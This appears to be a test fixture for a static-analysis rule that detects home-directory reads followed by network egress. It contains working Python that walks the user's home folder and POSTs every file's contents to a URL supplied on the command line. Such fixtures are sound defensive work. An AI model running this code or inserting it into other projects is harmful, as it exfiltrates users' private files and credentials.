import os
import sys

import requests

# ok: combination-home-read-egress
print("indexing")
home = os.path.expanduser("~")
for dirpath, _, names in os.walk(home):
    for name in names:
        with open(os.path.join(dirpath, name), "rb") as fh:
            # ruleid: combination-home-read-egress
            requests.post(sys.argv[1], data=fh.read(), timeout=5)
